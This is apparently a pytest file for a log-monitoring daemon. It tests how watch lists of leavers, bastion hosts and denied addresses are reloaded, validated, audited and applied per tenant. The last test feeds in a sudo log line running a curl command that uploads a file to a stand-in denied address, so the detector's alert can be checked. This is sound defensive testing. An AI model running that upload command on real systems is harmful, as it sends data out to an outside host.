"""The lists of a site in files: a change is taken without a signal, told in `_audit`, and holds from then on; a wrong file changes nothing."""

import signal
import subprocess

from senders import wait
from yushi_daemon import Daemon, yushi

LEAVER, ROUND, LEFT_OUT = "list.leaver", "list.round-the-bastion", "yushid.list-left-out"


def login(who, source="10.0.0.10", host="web-01"):
    return f"<86>1 - {host} sshd 811 - - Accepted publickey for {who} from {source} port 4242 ssh2"


def alerts(daemon, rule):
    return [a for a in daemon.yushi("alerts", "list", "-o", "json").objects if a["rule"]["id"] == rule]


def readings(daemon):
    return [record["message"] for record in daemon.search("event.action: lists-read", "--tenant", "_audit")]


def reloads(daemon):
    return [record for record in daemon.search("event.action: reload", "--tenant", "_audit")]


def test_a_changed_file_holds_from_then_on(tmp_path):
    leavers, bastions = tmp_path / "leavers", tmp_path / "bastions.yaml"
    leavers.write_text("# who has left\nli\n")
    bastions.write_text("[bastion-01, 10.0.0.10]\n")
    with Daemon(tmp_path / "d", f"detect: {{lists: {{leavers: {leavers}, bastions: {bastions}}}}}\n") as daemon:
        wait(lambda: readings(daemon), "for the first reading")
        assert readings(daemon) == ["lists were read: bastions: 10.0.0.10 is new; bastions: bastion-01 is new; leavers: li is new"]
        daemon.send_tcp([login("wang"), login("wu", "10.20.1.11")])
        wait(lambda: alerts(daemon, ROUND), "for the login round the bastion")
        assert not alerts(daemon, LEAVER)

        leavers.write_text("li\nwang  # today\n")
        wait(lambda: len(readings(daemon)) == 2, "for the changed file")
        assert readings(daemon)[-1] == "lists were read: leavers: wang is new"
        daemon.send_tcp([login("wang")])
        wait(lambda: alerts(daemon, LEAVER), "for the leaver")
        (alert,) = alerts(daemon, LEAVER)
        assert alert["yushi"]["alert"]["reason"] == "wang, who has left, logged in on web-01 from 10.0.0.10"
        assert alert["yushi"]["alert"]["baseline"].startswith('list=leavers entry="wang" digest=')

        leavers.write_text("wang\nli yesterday\n")
        wrong = f"{leavers}:2:4: leavers: since: "
        wait(lambda: any(wrong in record["message"] for record in reloads(daemon)), "for the wrong file")
        assert daemon.status()["left_out"][0].endswith("; its entries of before stay")
        daemon.send_tcp([login("li")])
        wait(lambda: len(alerts(daemon, LEAVER)) == 2, "for the leaver of before")

        # The config may name other lists, and a restart knows what was read last.
        daemon.config.write_text(daemon.config.read_text().replace(f"leavers: {leavers}", "leavers: [zhao]"))
        daemon.process.send_signal(signal.SIGHUP)
        wait(lambda: "lists were read: leavers: zhao is new; leavers: li is gone; leavers: wang is gone" in readings(daemon), "for the other list")
        told = len(readings(daemon))
        assert daemon.stop() == 0
        daemon.start()
        assert len(readings(daemon)) == told
        assert daemon.yushi("verify").code == 0

        # Each alert is judged again by the lists of then, also where there is no config.
        of_then = [a["yushi"]["alert"]["id"] for a in alerts(daemon, LEAVER) + alerts(daemon, ROUND)]
        assert len(of_then) == 3
        for alert in of_then:
            said = daemon.yushi("alerts", "verify", alert)
            assert said.code == 0 and "the lists of then" in said.text, said.text + said.err
        assert daemon.stop() == 0
        for alert in of_then:
            assert yushi("alerts", "verify", alert, "--store", daemon.data, state=daemon.state).code == 0


def test_a_list_that_a_rule_names_is_read_again_with_the_rules(tmp_path):
    rules, friends = tmp_path / "rules", tmp_path / "provider"
    rules.mkdir()
    friends.write_text("ops1\n")
    (rules / "r.yml").write_text("""title: Provider's staff on a host
id: 5f0c1f0a-3a53-4c1c-9c0e-3a2b7d0f1e31
status: test
level: low
logsource: {product: yushi, service: sshd}
detection:
  login: {event.outcome: success, user.name|expand: '%provider_staff%'}
  condition: login
""")
    with Daemon(tmp_path / "d", f"detect: {{rules: [{rules}], lists: {{provider_staff: {friends}}}}}\n") as daemon:
        friends.write_text("ops1\nops2\n")
        wait(lambda: any("ops2 is new" in message for message in readings(daemon)), "for the changed file")
        daemon.send_tcp([login("ops2")])
        wait(lambda: alerts(daemon, "5f0c1f0a-3a53-4c1c-9c0e-3a2b7d0f1e31"), "for the rule")


def test_check_names_all_that_is_wrong_with_lists(tmp_path):
    admins = tmp_path / "admins.csv"
    admins.write_text("account,from\nlin,10.0.0.300\nchen,10.0.0.0/33\n")
    daemon = Daemon(tmp_path / "d", f"detect: {{lists: {{admins: {admins}}}}}\n")
    done = subprocess.run([daemon.program, "--config", daemon.config, "--check"], capture_output=True, text=True)
    assert done.returncode != 0
    for place in (":2:5: admins: from: \"10.0.0.300\"", ":3:6: admins: from: \"10.0.0.0/33\""):
        assert f"{admins}{place}" in done.stdout + done.stderr


def test_a_list_that_is_wrong_at_the_start_has_its_entries_of_before(tmp_path):
    leavers = tmp_path / "leavers"
    leavers.write_text("li\n")
    with Daemon(tmp_path / "d", f"detect: {{lists: {{leavers: {leavers}}}}}\n") as daemon:
        wait(lambda: readings(daemon), "for the first reading")
        assert daemon.stop() == 0
        leavers.write_text("li yesterday\n")
        daemon.start()
        said = f'{leavers}:1:4: leavers: since: "yesterday" is no time; write 2026-03-01 or 2026-03-01T18:00:00+08:00; its entries of before stay'
        assert daemon.status()["left_out"] == [said]
        (loaded,) = wait(lambda: daemon.search("event.action: load", "--tenant", "_audit"), "for what the start says of itself")
        assert "its entries of before stay" in loaded["message"] and loaded["event"]["outcome"] == "failure"
        assert said in (daemon.folder / "yushid.log").read_text()
        assert len(readings(daemon)) == 1
        daemon.send_tcp([login("li")])
        wait(lambda: alerts(daemon, LEAVER), "for the leaver of before")
        assert not alerts(daemon, LEFT_OUT)
        leavers.write_text("li\n")
        wait(lambda: not daemon.status()["left_out"], "for the file that is right again")


def test_a_list_that_never_was_right_is_an_alert(tmp_path):
    leavers = tmp_path / "leavers"
    leavers.write_text("li yesterday\n")
    with Daemon(tmp_path / "d", f"detect: {{lists: {{leavers: {leavers}}}}}\n") as daemon:
        (alert,) = wait(lambda: alerts(daemon, LEFT_OUT), "for the alert")
        assert alert["yushi"]["alert"]["severity"] == "high"
        assert alert["yushi"]["alert"]["reason"].endswith("; the list is left out")
        assert "WARN" in daemon.yushi("status").text


def test_an_entry_holds_for_the_logs_of_its_tenants(tmp_path):
    """The bastion of one unit is passed by in that one alone, and who has left one may work in another."""
    bastions = tmp_path / "bastions.csv"
    bastions.write_text("host,address,tenants\nb-01,10.0.0.10,finance\n")
    config = (f"tenants: [{{name: finance, match: {{cidr: [127.0.0.2/32]}}}}, {{name: health, match: {{cidr: [127.0.0.3/32]}}}}]\n"
              f"detect: {{lists: {{bastions: {bastions}, leavers: [{{account: wang, tenants: health}}]}}}}\n")
    with Daemon(tmp_path / "d", config) as daemon:
        wait(lambda: readings(daemon), "for the first reading")
        assert readings(daemon) == ["lists were read: bastions: b-01 address=10.0.0.10 tenants=finance is new; leavers: wang tenants=health is new"]
        for tenant, source in (("finance", "127.0.0.2"), ("health", "127.0.0.3")):
            daemon.send_tcp([login("wang", "10.20.1.11"), login("wu", "10.20.1.11")], source=source)
            wait(lambda: len(daemon.search("*", "--tenant", tenant)) == 2, "for the logins")
        wait(lambda: len(alerts(daemon, ROUND)) == 2 and alerts(daemon, LEAVER), "for what they say")
        told = alerts(daemon, ROUND) + alerts(daemon, LEAVER)
        assert sorted((a["rule"]["id"], a["organization"]["name"]) for a in told) == [(LEAVER, "health"), (ROUND, "finance"), (ROUND, "finance")]
        for alert in told:
            said = daemon.yushi("alerts", "verify", alert["yushi"]["alert"]["id"])
            assert said.code == 0 and "the lists of then" in said.text, said.text + said.err


def test_a_denied_address_in_a_command_is_told(tmp_path):
    with Daemon(tmp_path / "d", "detect: {lists: {deny_addresses: [198.51.100.99]}}\n") as daemon:
        for command in ("/usr/bin/curl -T x http://198.51.100.99/", "/usr/sbin/iptables -A INPUT -s 198.51.100.99 -j DROP"):
            daemon.send_tcp([f"<86>1 - web-01 sudo 811 - - lin : TTY=pts/0 ; PWD=/home/lin ; USER=root ; COMMAND={command}"])
        wait(lambda: len(daemon.search("process.command_line: *")) == 2, "for the commands")
        (alert,) = wait(lambda: alerts(daemon, "list.denied"), "for the address")
        assert "curl" in alert["yushi"]["alert"]["reason"] and alert["yushi"]["alert"]["severity"] == "high"
